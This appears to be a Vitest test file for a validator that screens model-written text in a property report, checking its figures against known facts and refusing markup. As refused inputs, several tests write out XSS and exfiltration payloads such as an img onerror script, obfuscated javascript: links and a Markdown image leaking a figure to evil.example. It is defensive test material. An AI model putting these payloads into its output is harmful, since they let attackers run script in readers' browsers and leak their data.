import { describe, expect, it } from 'vitest';
import { validateModelText, maxModelAnswer } from '../../../../../src/core/report/summary/validateModelText.ts';

const facts = ['Monthly cash flow: £28. Cash-on-cash: 0.6%. Score 48 of 100. At £137,686 it would pass. Salford M6.'];

describe('text written by a model', () => {
  it('is shown as plain paragraphs if its figures match the summary', () => {
    expect(validateModelText('This home in Salford M6 leaves £28 a month.\r\n\r\nAt £137,686 it would pass.', facts)).toEqual({
      ok: true,
      value: ['This home in Salford M6 leaves £28 a month.', 'At £137,686 it would pass.'],
    });
  });

  it.each([
    ['a Markdown image', '![x](https://evil.example/?q=£28)'],
    ['a reference image', 'Look ![x][1]\n\n[1]: //evil.example/a'],
    ['a raw image', 'It pays <img src=x onerror=alert(1)> £28'],
    ['a ping', '<a ping="https://evil.example" href="/">click</a>'],
    ['an autolink', 'See <https://evil.example>'],
    ['a bare address', 'See evil-lender.co.uk for a better rate.'],
    ['an address with www', 'www.evil.example'],
    ['a javascript link', '[pay](javascript:alert(1))'],
    ['a scheme in disguise', 'JaVaScRiPt :alert(1)'],
    ['a scheme split by an invisible character', 'java\u200bscript:alert(1)'],
    ['full-width brackets', '＜img src=x＞'],
    ['an entity', '&lt;b&gt; &#60;'],
    ['an email address', 'Write to agent@evil.example'],
    ['bold and code', '**Buy** `now`'],
  ])('with %s is refused', (_, text) => {
    expect(validateModelText(text, facts)).toEqual({ ok: false, error: { kind: 'markup' } });
  });

  it.each([
    ['another amount', 'It leaves £280 a month.', ['£280']],
    ['a lost minus', 'It would lose −£28.', ['-£28']],
    ['a figure in words', 'It leaves thirty pounds.', ['thirty']],
    ['a percentage made from an amount', 'It yields 28%.', ['28%']],
  ])('with %s is refused and the figure is named', (_, text, figures) => {
    expect(validateModelText(text, facts)).toEqual({ ok: false, error: { kind: 'figures', figures } });
  });

  it('is refused if empty, too long or unreadable', () => {
    expect(validateModelText(' \n\u200b\u0007\n ', facts)).toEqual({ ok: false, error: { kind: 'empty' } });
    expect(validateModelText('a'.repeat(10_000_000), facts)).toEqual({ ok: false, error: { kind: 'too-long' } });
    expect(validateModelText('a'.repeat(maxModelAnswer), facts).ok).toBe(true);
    expect(validateModelText('broken \ufffd text', facts)).toEqual({ ok: false, error: { kind: 'unreadable' } });
    expect(validateModelText('half \ud83d', facts)).toEqual({ ok: false, error: { kind: 'unreadable' } });
  });

  it('is stripped of characters that control or hide text', () => {
    expect(validateModelText('It pays\u202e £28\u202c a\u0000 month\u2066.', facts)).toEqual({ ok: true, value: ['It pays £28 a month.'] });
  });
});
